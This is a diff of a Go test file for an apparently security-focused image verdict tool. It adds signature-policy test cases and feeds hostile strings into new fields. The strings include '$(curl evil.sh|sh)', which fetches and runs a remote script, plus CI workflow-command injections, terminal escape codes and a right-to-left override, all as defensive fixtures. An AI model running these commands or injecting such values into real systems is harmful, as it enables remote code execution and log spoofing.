@@ -30,9 +30,13 @@ func verdicts() map[string]verdict.Verdict {
 		"accepted": run("static:1", func(in *verdict.Input) {
 			in.Policy.Coverage = policy.Coverage{OSOptional: true, PackagesOptional: true, UnreadableAccept: []string{"opt/**"}}
 		}, static()),
-		"forecast": foretold(),
-		"waived":   run("shop:1.4", waive, waivable()),
-		"hostile":  hostile("x\n::error::pwned\x1b[2J\u202egnp.exe ##[group]", "$(curl evil.sh|sh)\r::set-output\xff"),
+		"forecast":    foretold(),
+		"signed":      signing(nil),
+		"unsigned":    signing(unsign),
+		"signatures":  signing(func(in *verdict.Input) { onlySignatures(in); in.Evidence = append(in.Evidence, arm(in.Evidence[0])) }),
+		"failed-fast": signing(func(in *verdict.Input) { unsign(in); unscanned(in); in.FailFast = true }),
+		"waived":      run("shop:1.4", waive, waivable()),
+		"hostile":     hostile("x\n::error::pwned\x1b[2J\u202egnp.exe ##[group]", "$(curl evil.sh|sh)\r::set-output\xff"),
 	}
 }
 
@@ -245,6 +249,9 @@ func hostile(a, b string) verdict.Verdict {
 		npmVuln("CVE-1", evidence.SeverityHigh, a, b, b, a),
 		{Kind: evidence.KindSecret, ID: a, Title: b, Path: a, StartLine: 1},
 	}
+	ev.Signatures, ev.Base = hostileSignatures(a, b), &evidence.Base{
+		Source: evidence.ClaimSource(a), Reference: b, Digest: a, Lineage: evidence.Lineage(b), Reason: a, Signatures: hostileSignatures(b, a),
+	}
 	ev.Findings[4].VEX = []evidence.VEXStatement{{Status: "not_affected", Justification: b, Source: a, Author: b}}
 	ev.Feeds.VEX = []evidence.FeedState{{Source: a, Problem: b}}
 	ev.Feeds.KEV, ev.Feeds.EPSS = &evidence.FeedState{Source: a, Problem: b}, &evidence.FeedState{Source: b, Entries: 7, Updated: &now}
@@ -252,6 +259,8 @@ func hostile(a, b string) verdict.Verdict {
 	v := run(a, func(in *verdict.Input) {
 		in.Policy.Name, in.Policy.Source, in.Policy.Digest = a, b, a
 		in.Policy.Documents = []policy.DocumentRef{{Name: b, Source: a, Digest: b, Enforced: true, SetBy: a}}
+		in.Policy.Rules = append(in.Policy.Rules, policy.Rule{ID: b + "signed", Group: policy.GroupSignatures, Action: policy.ActionFail, Signatures: &policy.SignatureRule{
+			Signers: policy.Signers{Of: policy.SignedImage, Authorities: []string{b}, Min: 1}}})
 		in.Policy.Rules[0].ID, in.Policy.Rules[0].Title, in.Policy.Rules[0].Remediation = a, b, a
 		in.Policy.Waivers = append(in.Policy.Waivers, policy.Waiver{ID: a, Rule: b, Finding: a, Package: b, Path: a, Reason: b, Owner: a})
 		in.Problems = []evidence.Problem{{Area: evidence.AreaImage, What: a, Message: b, Hint: a}}
